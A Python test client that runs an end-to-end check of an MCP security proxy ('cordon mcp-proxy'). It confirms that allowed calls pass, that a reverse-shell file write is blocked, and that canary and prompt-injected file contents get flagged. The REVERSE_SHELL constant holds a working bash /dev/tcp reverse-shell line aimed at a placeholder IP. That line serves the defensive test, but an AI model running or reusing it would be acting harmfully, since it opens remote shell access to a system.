"""A real MCP client (the official Python SDK) for the end-to-end test of `cordon mcp-proxy`.

    client.py --root DIR --canary FILE --injected FILE -- SERVER_CMD...

Connects to SERVER_CMD over stdio (the proxy, with the filesystem server behind it), lists the
tools, makes an allowed call, calls the proxy must block, and reads files whose content the proxy
must flag, then prints what came back as one JSON object on stdout.
"""

import argparse
import json
import os

import anyio
from mcp import ClientSession, StdioServerParameters, stdio_client

REVERSE_SHELL = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"


async def call(session, name, arguments):
    result = await session.call_tool(name, arguments)
    texts = [c.text for c in result.content if getattr(c, "type", None) == "text"]
    return {"isError": bool(result.is_error), "texts": texts}


async def main(args):
    command, *rest = args.server
    params = StdioServerParameters(command=command, args=rest, env=dict(os.environ))
    async with stdio_client(params) as (read, write):
        async with ClientSession(read, write) as session:
            init = await session.initialize()
            tools = await session.list_tools()
            root = args.root
            summary = {
                "server": init.server_info.name,
                "tools": sorted(t.name for t in tools.tools),
                "allowed": await call(session, "read_text_file", {"path": os.path.join(root, "hello.txt")}),
                "blocked": await call(session, "write_file", {"path": os.path.join(root, "run.sh"), "content": REVERSE_SHELL}),
                "schema_violation": await call(session, "read_text_file", {"path": 5}),
                "canary": await call(session, "read_text_file", {"path": args.canary}),
                "injected": await call(session, "read_text_file", {"path": args.injected}),
                "after": await call(session, "list_directory", {"path": root}),
            }
    print(json.dumps(summary))


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--root", required=True)
    parser.add_argument("--canary", required=True)
    parser.add_argument("--injected", required=True)
    parser.add_argument("server", nargs=argparse.REMAINDER)
    args = parser.parse_args()
    if args.server[:1] == ["--"]:
        args.server = args.server[1:]
    anyio.run(main, args)
